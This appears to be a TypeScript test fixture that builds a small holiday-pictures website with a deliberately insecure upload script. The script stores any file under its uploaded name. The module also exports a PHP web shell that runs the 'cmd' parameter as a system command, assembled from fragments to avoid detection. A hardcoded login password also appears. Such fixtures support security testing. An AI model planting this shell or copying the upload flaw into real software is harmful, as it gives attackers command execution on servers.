// The pages of a small site with one fault: its upload script takes whatever it is given, under the name that it is given.

/** Put together here, so that no source file is a web shell. Runs what the parameter `cmd` says. */
export const webShell = ['<?', 'php sys', 'tem($_GET["cmd"] ?? "true"); ?', '>\n'].join('')

const head =
  '<!doctype html><html lang="en"><title>Holiday pictures</title><link rel="stylesheet" href="/style.css">'

const upload = `<?php
if (isset($_FILES['picture'])) {
  $name = basename($_FILES['picture']['name']);
  move_uploaded_file($_FILES['picture']['tmp_name'], __DIR__ . '/uploads/' . $name);
  echo 'saved as /uploads/' . htmlspecialchars($name);
} else {
  echo '${head}<form method="post" enctype="multipart/form-data"><input type="file" name="picture"><button>Send</button></form>';
}
`

const login = `<?php
if (($_POST['password'] ?? '') === 'correct horse') {
  header('Location: /index.html', true, 302);
} else {
  http_response_code(401);
  echo 'wrong name or password';
}
`

const search = `<?php
$query = (string) ($_GET['q'] ?? '');
echo '${head}<p>Nothing found for <b>' . htmlspecialchars($query) . '</b>.';
`

/** File name → content. */
export const sitePages: Readonly<Record<string, string>> = {
  'index.html': `${head}<h1>Holiday pictures</h1><a href="/upload.php">Send yours</a>\n`,
  'about.html': `${head}<p>Two people and a camera.\n`,
  'style.css': 'body { font: 16px/1.5 sans-serif }\n',
  'robots.txt': 'User-agent: *\nAllow: /\n',
  'upload.php': upload,
  'login.php': login,
  'search.php': search,
}
